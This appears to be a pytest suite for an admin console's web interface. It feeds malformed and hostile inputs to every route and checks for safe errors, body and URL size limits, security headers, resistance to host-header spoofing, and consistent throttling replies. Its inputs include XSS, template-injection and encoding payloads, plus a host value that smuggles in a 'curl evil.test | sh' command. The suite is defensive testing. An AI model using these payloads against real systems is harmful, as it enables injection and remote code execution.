"""Requests that no browser sends: each gets a page that says no, and none a failure."""

import re

import pytest

from admin_ui.access import LONGEST_QUERY
from admin_ui.app import MOST_BODY
from admin_ui.headers import SECURITY_HEADERS

FILTERS = """q after actor target about from until by state source revision pool of key model task format next unseen
    ticket tenant code iss error"""
FIELDS = """name source revision id pool aliases dtype max_tokens allow deny model_pattern requests tokens concurrency
    tokens_per_month expires scopes overlap role tenant confirm version task texts query labels threshold dimensions
    kind key model current_password password password_again lane weight theme next held_action held_fields base_url
    credential alias"""
ODD = [
    "%00",
    "%ff",
    "%ed%a0%80",
    "%f0%9f%90",
    "%c0%ae",
    "a%00b",
    "%e2%80%ae",
    "%25",
    "'%22%3E%3Cb%3E",
    "{{7*7}}",
    "x" * 600,
]
FORM_TYPE = {"content-type": "application/x-www-form-urlencoded"}


def filled(path: str, tenant: str) -> str:
    return re.sub(r"\{\w+:\w+\}", "x", path.replace("{tenant:str}", tenant))


def routes(console, method: str) -> list[str]:
    acme = console.tenant_id("acme")
    return sorted({filled(path, acme) for its, path, _ in console.routes() if its == method and "static" not in path})


@pytest.mark.parametrize("odd", ODD)
def test_whatever_stands_in_an_address_no_page_fails(console, odd) -> None:
    console.become("ada")
    query = "&".join(f"{name}={odd}" for name in FILTERS.split())
    for address in routes(console, "GET"):
        answer = console.client.get(f"{address}?{query}")
        assert answer.status_code < 500 or "oidc" in address, (address, answer.text)
        assert "<b>" not in re.sub(r"<b>[^<]*</b>", "", answer.text), address
        assert "49" not in re.findall(r'value="([^"]*)"', answer.text)
        assert "\u202e" not in re.sub(r'value="[^"]*"', "", answer.text), address


@pytest.mark.parametrize("odd", [one for one in ODD if one != "x" * 600] + ["x" * 1000])
def test_whatever_stands_in_a_form_no_page_fails(console, odd) -> None:
    body = "&".join(f"{name}={odd}" for name in FIELDS.split())
    for address in routes(console, "POST"):
        token = console.become("ada")
        answer = console.client.post(address, content=f"csrf_token={token}&{body}", headers=FORM_TYPE)
        assert answer.status_code < 500, (address, answer.text)
        console.client.cookies.clear()
        held = FORM_TYPE | {"origin": "http://console.test"}
        assert console.client.post(address, content=body, headers=held).status_code in {401, 403, 303, 400}, address


def test_forms_have_a_size(console) -> None:
    token = console.become("ada")
    for address in routes(console, "POST"):
        for body in (f"csrf_token={token}&name={'x' * MOST_BODY}", "a&" * MOST_BODY, f"name={'%00' * MOST_BODY}"):
            answer = console.client.post(address, content=body, headers=FORM_TYPE)
            assert answer.status_code == 413, address
            assert "more than the console takes" in answer.text


def test_a_form_of_very_many_fields_takes_no_longer_than_another(console) -> None:
    token = console.become("ada")
    fields = "&".join(f"f{n}=" for n in range(7000))
    assert len(fields) < MOST_BODY
    answer = console.client.post("/admin/tenants", content=f"csrf_token={token}&{fields}", headers=FORM_TYPE)
    assert answer.status_code == 422
    assert answer.elapsed.total_seconds() < 5


def test_addresses_have_a_length(console) -> None:
    console.become("ada")
    for address in routes(console, "GET"):
        answer = console.client.get(f"{address}?q={'%' + '25' * LONGEST_QUERY}")
        assert answer.status_code == 414, address


@pytest.mark.parametrize(
    "host",
    [
        "",
        "[",
        "[::1",
        "]",
        "a b",
        "<script>alert(1)</script>",
        '"; curl evil.test | sh; "',
        "evil.test/../x",
        "x" * 4000,
        "\xe9",
    ],
)
def test_what_a_request_calls_us_gets_into_no_page(console, host) -> None:
    """Least of all into the one that shows a key with the commands for it."""
    token = console.become("ada")
    keys = f"/admin/tenants/{console.tenant_id('acme')}/keys"
    tokens = "/admin/operators/at/ada/tokens"
    for address in (keys, tokens):
        form = {"csrf_token": token, "name": "n", "expires": "30d"}
        answer = console.client.post(address, data=form, headers={"host": host.encode("latin-1")})
        assert answer.status_code in {201, 400}, answer.text
        assert not host or f"{host}/" not in answer.text
        assert "evil.test" not in answer.text
        assert "alert(1)" not in answer.text


def test_what_proxies_would_say_of_the_host_is_not_believed(console) -> None:
    token = console.become("ada")
    form = {"csrf_token": token, "name": "n", "expires": ""}
    said = {"x-forwarded-host": "evil.test", "forwarded": "host=evil.test;proto=https", "x-forwarded-proto": "https"}
    answer = console.client.post(f"/admin/tenants/{console.tenant_id('acme')}/keys", data=form, headers=said)
    assert "http://console.test/v1/embeddings" in answer.text
    assert "evil" not in answer.text


def test_the_public_address_is_the_one_that_was_set_whatever_a_request_says(console_at) -> None:
    console = console_at(public_url="http://shoal.test")
    token = console.become("ada")
    form = {"csrf_token": token, "name": "n", "expires": ""}
    url = f"/admin/tenants/{console.tenant_id('acme')}/keys"
    page = console.client.post(url, data=form, headers={"host": "evil.test"}).text
    assert "http://shoal.test/v1/embeddings" in page
    assert "evil" not in page


def test_every_kind_of_answer_carries_the_headers(console_at) -> None:
    console = console_at(console_hosts=("console.test",))
    client, token = console.client, console.become("ada")
    answers = {
        "page": client.get("/admin"),
        "redirect": client.post("/admin/theme", data={"csrf_token": token, "theme": "dark"}),
        "forged": client.post("/admin/theme", data={}),
        "not found": client.get("/admin/nowhere"),
        "wrong method": client.put("/admin/tenants"),
        "options": client.options("/admin/tenants"),
        "head": client.head("/admin/tenants"),
        "too long": client.get(f"/admin?q={'x' * LONGEST_QUERY}x"),
        "too large": client.post("/admin/tenants", content=b"x" * (MOST_BODY + 1), headers=FORM_TYPE),
        "wrong host": client.get("/admin", headers={"host": "evil.test"}),
        "file": client.get("/admin/static/app.js"),
        "no file": client.get("/admin/static/none.js"),
        "file as it was": client.get(
            "/admin/static/app.js", headers={"if-none-match": client.get("/admin/static/app.js").headers["etag"]}
        ),
        "a part of it": client.get("/admin/static/app.js", headers={"range": "bytes=0-9"}),
        "part": client.get("/admin/overview/pools"),
    }
    console.client.cookies.clear()
    answers |= {
        "sign-in": client.get("/admin/sign-in"),
        "to the sign-in": client.get("/admin"),
        "part of nobody's": client.get("/admin/overview/pools", headers={"x-live": "1"}),
        "session over": client.post("/admin/tenants", data={"name": "x"}, headers={"origin": "http://console.test"}),
    }
    for name, answer in answers.items():
        assert {header: answer.headers.get(header) for header in SECURITY_HEADERS} == SECURITY_HEADERS, name
        kept_by_caches = name in {"file", "file as it was", "a part of it"}
        assert ("no-store" in answer.headers["cache-control"]) is not kept_by_caches, name


def test_who_is_throttled_is_not_told_who_there_is(console) -> None:
    said = []
    for name in ("ada", "nobody"):
        for _ in range(5):
            console.sign_in(name, "wrong")
        answer = console.sign_in(name, "wrong")
        token = console.hidden(answer.text, "csrf_token")
        said.append(
            (answer.status_code, answer.headers["retry-after"], answer.text.replace(name, "…").replace(token, ""))
        )
    assert said[0] == said[1]
    assert said[0][0] == 429
